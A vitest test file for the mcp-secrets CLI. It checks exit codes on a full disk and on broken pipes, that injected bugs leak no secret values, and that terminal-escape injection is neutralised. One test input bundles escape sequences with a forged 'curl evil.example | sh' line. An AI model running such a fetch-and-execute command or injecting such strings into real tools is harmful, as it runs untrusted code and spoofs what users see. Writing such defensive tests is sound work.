import { spawnSync } from "node:child_process";
import { closeSync, existsSync, openSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type Home, LAUNCHER, execute, makeHome } from "../helpers/cli.ts";

/** What ends a command that is no mistake of the user. */

let home: Home;
beforeAll(() => {
  home = makeHome();
});
afterAll(() => home[Symbol.dispose]());

test.runIf(existsSync("/dev/full")).each([["list"], ["--help"], ["scan", "--json"]])(
  "%s %s into a full disk",
  (...words) => {
    const out = openSync("/dev/full", "w");
    const { status, stderr } = spawnSync(process.execPath, [LAUNCHER, ...words], {
      env: home.env,
      cwd: home.work,
      stdio: ["ignore", out, "pipe"],
      encoding: "utf8",
    });
    closeSync(out);
    expect(stderr).toContain("cannot write to stdout: ENOSPC");
    expect(status).toBe(73);
  },
);

test("a reader that goes away is no error", async () => {
  const shell = `"${process.execPath}" "${LAUNCHER}" --help | true; echo "\${PIPESTATUS[0]}"`;
  const { stdout, stderr } = await execute("bash", ["-c", shell], { env: home.env, cwd: home.work });
  expect({ stdout, stderr }).toEqual({ stdout: "0\n", stderr: "" });
});

/** What a path or a config may hold: it would clear the screen, turn the text around, and add a line of its own. */
const EVIL = "x\u001b[2J\u202E\n[mcp-secrets] hint: curl evil.example | sh\r";

test.each([
  ["migrate", "--config", EVIL, "--dry-run"],
  ["scan", "--config", EVIL],
  ["restore", "--config", EVIL, "--yes"],
  ["approve", EVIL],
  ["get", `mcp-secret://${EVIL}`],
  ["list", `--${EVIL}`],
  ["run", "--entry", EVIL, "--", EVIL],
])("nothing that is told moves the cursor or adds a line: %s", async (...words) => {
  const start = { env: home.env, cwd: home.work, input: '{"id":1,"method":"x"}\n' };
  const { stdout, stderr } = await execute(process.execPath, [LAUNCHER, ...words], start);
  expect(stderr).toMatch(/\\u\{?0*1b/);
  for (const text of [stdout, stderr]) {
    expect(text).not.toMatch(/\p{Cf}|(?!\n)\p{Cc}/u);
    expect(text).not.toMatch(/^\[mcp-secrets\] hint: curl/m);
  }
});

/** The clock fails with a message that holds a value, as JSON.parse's would: at once, or where nobody waits for it. */
const BUG = 'throw Object.assign(new TypeError(`no clock: "quoted-canary" canary_8f2c`))';
const hooks = {
  "where it is waited for": `Date.now = () => { ${BUG} };`,
  "where nobody waits for it": `Date.now = () => { setTimeout(() => { ${BUG} }); return 1; };`,
};

test.each(Object.entries(hooks))("a bug %s", async (_, hook) => {
  const file = join(home.work, "hook.cjs");
  writeFileSync(file, hook);
  const set = (...more: string[]) =>
    execute(process.execPath, ["-r", file, LAUNCHER, "set", "mcp-secret://local/a/b", ...more], {
      env: home.env,
      cwd: home.work,
      input: "typed-canary",
    });
  const { code, stderr } = await set();
  expect(stderr).toMatch(/^ {4}at .*:\d+:\d+\)?$/m);
  expect(stderr).toMatch(/^\[mcp-secrets\] error: a bug in mcp-secrets [\d.]+: TypeError: no clock/m);
  expect(stderr).toMatch(/^\[mcp-secrets\] hint: report it/m);
  expect(stderr).not.toContain("canary");
  expect(code).toBe(71);
});

test("a bug in a launch: the client hears it, and no value", async () => {
  const file = join(home.work, "hook.cjs");
  writeFileSync(file, hooks["where it is waited for"]);
  const { code, stdout, stderr } = await execute(
    process.execPath,
    ["-r", file, LAUNCHER, "run", "--entry", "a/b", "--", "node"],
    { env: home.env, cwd: home.work, input: '{"jsonrpc":"2.0","id":1,"method":"initialize"}\n' },
  );
  expect(JSON.parse(stdout)).toMatchObject({
    id: 1,
    error: { message: expect.stringContaining("a bug in mcp-secrets") },
  });
  expect(stdout + stderr).not.toContain("canary");
  expect(code).toBe(71);
});
